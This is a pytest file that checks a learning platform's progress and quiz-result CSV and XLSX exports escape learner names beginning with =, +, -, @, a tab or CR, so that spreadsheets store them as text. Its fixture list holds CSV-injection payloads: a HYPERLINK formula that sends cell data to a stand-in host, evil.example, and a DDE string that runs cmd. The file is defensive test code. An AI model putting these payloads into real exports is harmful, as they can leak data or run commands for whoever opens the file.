"""Exports never hand a spreadsheet program a formula: names a learner typed stay text.

The defect this guards: names starting with = + - @, a tab or CR went into the progress CSV, the
quiz results CSV and the XLSX (where openpyxl stored a real formula).
"""
import csv
import io

from openpyxl import load_workbook

from lms.courses import services as courses
from lms.extensions import db
from lms.quizzes.models import Quiz
from lms.spreadsheets import csv_text
from tests.admin.conftest import NOW, submitted_attempt

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
NAMES = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
STORED = [name.strip() for name in NAMES]  # accounts keep names without surrounding white space


def test_csv_text_neutralises_formula_starts_and_leaves_numbers():
    assert [csv_text(name)[0] for name in NAMES] == ["'"] * len(NAMES)
    assert csv_text("-12.5") == "-12.5" and csv_text(7) == 7 and csv_text("Aynur") == "Aynur"


def _enrol_evil_learners(make_user, cohort):
    people = [make_user(name=name, email=f"evil{number}@example.org") for number, name in enumerate(NAMES)]
    for person in people:
        courses.enrol(person, cohort.course)
    db.session.commit()
    return people


def test_the_progress_csv_and_xlsx_keep_names_as_text(client, login, make_user, cohort):
    _enrol_evil_learners(make_user, cohort)
    login(cohort.admin)
    text = client.get("/admin/courses/key-concepts/progress.csv").data.decode("utf-8-sig")
    names = {row[0] for row in csv.reader(io.StringIO(text))}
    assert {"'" + name for name in STORED} <= names
    assert not any(name.startswith(("=", "+", "-", "@", "\t", "\r")) for name in names)

    sheet = load_workbook(io.BytesIO(client.get("/admin/courses/key-concepts/progress.xlsx").data)).active
    cells = [row[0] for row in sheet.iter_rows()]
    evil = [cell for cell in cells if cell.value in STORED]
    assert len(evil) == len(STORED)  # exactly as typed ...
    assert {cell.data_type for cell in evil} == {"s"}  # ... and stored as text, not as formulas


def test_the_quiz_results_csv_keeps_names_as_text(client, login, make_user, cohort):
    people = _enrol_evil_learners(make_user, cohort)
    quiz = db.session.query(Quiz).one()
    for person in people:
        submitted_attempt(quiz, person, 1, 5, NOW)
    db.session.commit()
    login(cohort.admin)
    response = client.get(f"/courses/key-concepts/manage/quizzes/{quiz.module_id}/results.csv")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))[1:]
    assert {row[0] for row in rows} >= {"'" + name for name in STORED}
